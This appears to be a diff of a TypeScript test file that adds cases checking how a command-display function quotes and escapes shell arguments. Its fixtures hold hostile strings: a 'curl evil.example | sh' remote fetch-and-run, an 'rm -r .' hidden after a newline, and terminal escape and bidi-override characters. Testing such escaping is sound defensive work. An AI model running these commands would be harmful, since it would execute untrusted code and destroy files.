@@ -1,5 +1,5 @@
 import { describe, expect, test } from 'vitest'
-import { childEnvironment, commandToRun, REFINE_PRESETS } from '../../../src/review/refine/command.ts'
+import { childEnvironment, commandText, commandToRun, REFINE_PRESETS } from '../../../src/review/refine/command.ts'
 
 const QUIET = ['--no-session-persistence', '--settings', '{"disableAllHooks":true}']
 
@@ -42,6 +42,15 @@ describe('commandToRun()', () => {
   test('tells the way out if none is set', () => {
     expect(() => commandToRun([])).toThrow('No command is set for the model: sage config set refine.command claude')
   })
+})
+
+test.each([
+  [['claude', '-p', '--tools', ''], "claude -p --tools ''"],
+  [['sh', '-c', 'curl evil.example | sh'], "sh -c 'curl evil.example | sh'"],
+  [['sh', '-c', "echo 'a'\nrm -r ."], String.raw`sh -c 'echo '\''a'\''⟨LF⟩rm -r .'`],
+  [['sh', '\u001b[2Kx\u202e'], "sh '⟨ESC⟩[2Kx⟨U+202E⟩'"],
+])('commandText(%j)', (command, expected) => {
+  expect(commandText(command)).toBe(expected)
 })
 
 test("childEnvironment() marks the child as Sage's own and hides the parent", () => {
